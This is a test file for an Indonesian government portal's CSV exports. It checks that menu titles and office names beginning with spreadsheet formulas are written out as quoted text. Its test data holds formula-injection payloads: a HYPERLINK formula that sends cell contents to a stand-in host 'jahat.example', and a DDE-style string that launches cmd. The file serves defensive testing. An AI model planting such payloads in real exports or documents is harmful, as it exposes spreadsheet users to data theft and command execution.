import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import { runSweep } from '../../jobs/sweep/handler'
import { SLUGS } from '../../src/slugs'
import { startTestServer } from '../helpers/server'
import type { TestServer } from '../helpers/server'

const FORMULA_TITLE = '=HYPERLINK("https://jahat.example/?d="&A1,"Klik untuk detail")'
const FORMULA_OFFICE = '@SUM(1+1)*cmd|\' /C calc\'!A0'
const FORMULA_SINGKATAN = '-2+3+DISKOMINFO'

let server: TestServer
let token: string

beforeAll(async () => {
  server = await startTestServer()
  const berita = await server.payload.find({ collection: SLUGS.menuPortal, where: { kode: { equals: 'berita' } }, limit: 1, depth: 0 })
  const menu = berita.docs[0]!
  await server.payload.update({ collection: SLUGS.menuPortal, id: menu.id, data: { judul: FORMULA_TITLE } })
  const owner = typeof menu.pemilik === 'object' && menu.pemilik ? menu.pemilik.id : menu.pemilik
  await server.payload.update({ collection: SLUGS.opd, id: owner as number, data: { nama: FORMULA_OFFICE, singkatan: FORMULA_SINGKATAN } })
  await runSweep({ payload: server.payload, now: new Date('2026-01-05T01:00:00.000Z') })
  token = await server.login(server.users.reviewer.email)
})

afterAll(async () => {
  await server?.close()
})

/** What a spreadsheet would see as the start of each cell: every field, unquoted. */
const cellsOf = (text: string) =>
  text
    .split('\r\n')
    .flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? [])
    .map((cell) => cell.replace(/,$/, '').replace(/^"|"$/g, '').replace(/""/g, '"'))

describe('CSV exports and spreadsheet formulas', () => {
  it('should write a menu title and an office name that start a formula as text in the current status', async () => {
    const response = await server.api('/api/kesegaran?format=csv', { token })
    expect(response.status).toBe(200)
    const text = await response.text()
    const cells = cellsOf(text)
    expect(cells).toContain(`'${FORMULA_TITLE}`)
    expect(cells).toContain(`'${FORMULA_OFFICE}`)
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
  })

  it('should write an office code that starts a formula as text in the history', async () => {
    const response = await server.api('/api/kesegaran/riwayat?dari=2026-01-01&sampai=2026-01-31&format=csv', { token })
    expect(response.status).toBe(200)
    const cells = cellsOf(await response.text())
    expect(cells).toContain(`'${FORMULA_SINGKATAN}`)
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
  })
})
